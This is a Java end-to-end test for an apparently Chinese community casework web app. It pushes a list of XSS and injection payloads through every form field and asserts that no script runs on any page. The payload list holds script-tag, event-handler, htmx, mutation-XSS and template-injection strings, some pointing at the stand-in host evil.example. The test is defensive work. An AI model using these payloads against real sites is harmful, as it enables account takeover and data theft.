package shequtong.journeys;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import shequtong.WholeTest;
import shequtong.journeys.Phones.Phone;

/**
 * AT-10, AT-13: whatever residents, committee and handlers write into a case is text on every page that shows it, with the
 * same rule for officials as for everybody; in a real browser, which says so when a script was stopped or ran.
 */
@WholeTest
class EscapingJourney extends Journey {

    private static final List<String> PAYLOADS = List.of(
            "<script>window.pwned=1;alert(1)</script>",
            "<img src=x onerror=\"window.pwned=1\">",
            "\"><svg onload=window.pwned=1>",
            "'\"><iframe srcdoc='<script>parent.pwned=1</script>'>",
            "<a href=\"javascript:window.pwned=1\">点我</a>",
            "<div hx-get=\"/me\" hx-trigger=\"load\" hx-on:load=\"window.pwned=1\">x</div>",
            "<div data-hx-get=\"/me\" data-hx-trigger=\"load\">x</div>",
            "<template><img src=x onerror=window.pwned=1></template>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.pwned=1&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
            "</textarea><script>window.pwned=1</script>",
            "</title><script>window.pwned=1</script>",
            "</script><script>window.pwned=1</script>",
            "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<base href=//evil.example/>",
            "<form action=//evil.example><button>发布</button></form>",
            "${7*7} #{7*7} __${T(java.lang.Runtime)}__::x {{7*7}}",
            "\u202Egnp.exe\u2066 \u2028window.pwned=1\u2029",
            "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;");

    @Test
    void whateverIsWrittenIsTextEverywhere() {
        var wang = phones.of(people.wang.person());
        var li = phones.desk(people.li.person());
        var property = phones.desk(people.property.person());
        var chen = phones.of(people.chen.person());
        var ran = new ArrayList<String>();
        for (var phone : List.of(wang, li, property, chen))
            phone.page.onDialog(it -> {
                ran.add(it.message());
                it.dismiss();
            });
        for (var payload : PAYLOADS) {
            var id = filled(payload, wang, li, property);
            look(wang, people.wang.path("/cases/" + id), payload);
            look(wang, people.wang.path("/cases/" + id + "/print"), payload);
            look(chen, people.chen.path("/cases/" + id), payload);
            look(chen, people.chen.path("/cases/" + id + "/record"), payload);
            look(li, people.li.path("/cases/" + id), payload);
            look(li, people.li.path("/cases/" + id + "/print"), payload);
            look(
                    li,
                    people.li.path("/cases/" + id + "/record") + "?receipt=%22%3E%3Csvg%20onload%3Dalert(1)%3E",
                    payload);
            look(property, people.property.path("/tasks/" + task(id)), payload);
        }
        look(chen, people.chen.path("/stories"), "");
        look(chen, people.chen.path("/board"), "");
        look(li, people.li.path("/cases"), "");
        look(li, people.li.path("/promises"), "");
        look(li, people.li.path("/promises?tab=KEPT"), "");
        look(li, people.li.path("/notices"), "");
        look(property, people.property.path("/tasks"), "");
        assertThat(ran).isEmpty();
    }

    /** In every field of the way: the matter, reply, note, purpose, answer, promise and verdict. */
    private long filled(String payload, Phone wang, Phone li, Phone property) {
        wang.go(people.wang.path("/stories/new"));
        var words = payload + "，" + payload.hashCode();
        wang.write("说说是什么事", words);
        wang.tap("公开");
        wang.send("发出去");
        var id = db.sql("select max(id) from casework.case_file where community = ?")
                .param(people.community.id())
                .query(Long.class)
                .single();
        var desk = people.li.path("/cases/" + id);
        li.go(desk);
        send(li, desk + "/replies", id, "to", "public", "text", payload + "\n三天内修好" + payload);
        send(li, desk + "/replies", id, "to", "inner", "text", payload);
        send(
                li,
                desk + "/dispatches",
                id,
                "way",
                "PROPERTY",
                "purpose",
                payload,
                "due",
                ago(java.time.Duration.ofDays(-2)),
                "confirmed",
                "true");
        li.go(desk);
        if (li.page.locator("button:has-text('是承诺，公开')").count() > 0) {
            li.send("是承诺，公开");
            var promise = db.sql("select id from casework.promise where case_id = ?")
                    .param(id)
                    .query(Long.class)
                    .single();
            assertThat(li.post(
                            people.li.path("/promises/" + promise + "/due"),
                            Map.of("due", ago(java.time.Duration.ofDays(-5)), "reason", payload)))
                    .isEqualTo(303);
            assertThat(li.post(people.li.path("/promises/" + promise + "/kept"), Map.of("words", payload)))
                    .isEqualTo(303);
        }
        property.go(people.property.path("/tasks/" + task(id)));
        assertThat(property.post(
                        people.property.path("/tasks/" + task(id) + "/answer"),
                        Map.of("stage", "REPLY", "words", payload, "way", "COMMITTEE")))
                .isEqualTo(303);
        send(li, desk + "/feedback", id, "outcome", "SOLVED", "words", payload, "absent", payload);
        wang.go(people.wang.path("/cases/" + id));
        assertThat(wang.post(
                        people.wang.path("/cases/" + id + "/rating"),
                        Map.of("resolved", "YES", "grade", "5", "verdict", payload)))
                .isEqualTo(303);
        return id;
    }

    private void send(Phone phone, String path, long id, String... fields) {
        var form = new java.util.HashMap<String, String>();
        for (var n = 0; n < fields.length; n += 2) form.put(fields[n], fields[n + 1]);
        form.put(
                "version",
                db.sql("select version::text from casework.case_file where id = ?")
                        .param(id)
                        .query(String.class)
                        .single());
        assertThat(phone.post(path, form)).as(path).isEqualTo(303);
    }

    private void look(Phone phone, String path, String payload) {
        assertThat(phone.go(path)).as(path + " " + payload).isEqualTo(200);
        phone.page.waitForSelector("html[data-ready=true]");
        assertThat(phone.page.evaluate("typeof window.pwned"))
                .as(path + " " + payload)
                .isEqualTo("undefined");
        assertThat(phone.page.evaluate("""
                document.querySelectorAll("main script, main iframe, main base, main meta, main link, main style, \
                main [onerror], main [onload], main [src='x'], main [data-hx-get], main [hx-on\\\\:load], \
                main a[href^='javascript'], main [action*='evil']").length""")).as(path + " " + payload).isEqualTo(0);
    }

    private long task(long id) {
        return db.sql("select max(id) from casework.dispatch where case_id = ?")
                .param(id)
                .query(Long.class)
                .single();
    }
}
